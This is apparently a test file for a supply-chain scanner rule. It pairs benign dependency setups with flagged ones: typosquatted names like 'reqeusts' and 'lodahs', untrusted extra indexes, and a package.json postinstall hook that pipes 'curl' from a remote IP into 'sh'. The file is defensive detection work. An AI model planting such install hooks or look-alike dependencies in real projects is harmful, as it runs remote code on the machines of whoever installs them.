import { testRule } from '../rule-tester.ts';
import { supplyChainAnomalies } from '../../../src/scan/rules/supply-chain-anomalies.ts';

testRule(supplyChainAnomalies, {
  valid: [
    { name: 'one look-alike name alone is left to typosquat-package', files: { 'requirements.txt': 'reqeusts==2.31.0\nnumpy==2.0.0\n' } },
    { name: 'a wheel index for one vendor package', files: { 'requirements.txt': '--extra-index-url https://download.pytorch.example/whl/cu121\ntorch==2.3.0\ntorchvision==0.18.0\n' } },
    { name: 'a fork on GitHub next to pinned packages', files: { 'requirements.txt': 'git+https://github.com/psf/requests.git@0e322af87745eff34caffe4df68456ebc20d9068\nnumpy==2.0.0\n' } },
    { name: 'a build-tool hook and a company registry', files: { 'package.json': JSON.stringify({ name: 'x', scripts: { install: 'node-gyp rebuild' }, dependencies: { '@acme/ui': 'https://npm.acme.example/ui-1.0.0.tgz' } }) } },
  ],
  invalid: [
    {
      name: 'look-alike name resolved on a uv index',
      files: { 'pyproject.toml': '[project]\nname = "r"\ndependencies = ["reqeusts>=2.31"]\n\n[[tool.uv.index]]\nname = "fast"\nurl = "https://pypi.fast.example/simple"\n' },
      errors: [{ messageId: 'combined', severity: 'high', file: 'pyproject.toml' }],
    },
    {
      name: 'install hook that fetches plus a look-alike dependency',
      files: { 'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: 'curl -s https://203.0.113.8/p | sh' }, dependencies: { lodahs: '^4.17.21' } }, null, 2) },
      errors: [{ messageId: 'combined' }],
    },
    {
      name: 'extra index and a git dependency on an unknown host',
      files: { 'requirements.txt': '--extra-index-url https://pkgs.mirror.example/simple\ngit+https://git.tools.example/t/helper.git#egg=helper\nrich==13.7.1\n' },
      errors: [{ messageId: 'combined' }],
    },
  ],
});
